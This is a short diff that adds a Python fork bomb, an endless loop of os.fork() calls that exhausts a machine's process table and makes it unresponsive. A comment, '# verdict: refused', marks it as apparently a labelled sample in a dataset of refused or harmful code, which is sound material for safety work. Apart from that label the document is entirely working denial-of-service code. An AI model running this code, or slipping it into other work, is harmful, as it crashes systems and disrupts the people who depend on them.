@@ -1,0 +1,4 @@
+# verdict: refused
+import os
+while True:
+    os.fork()
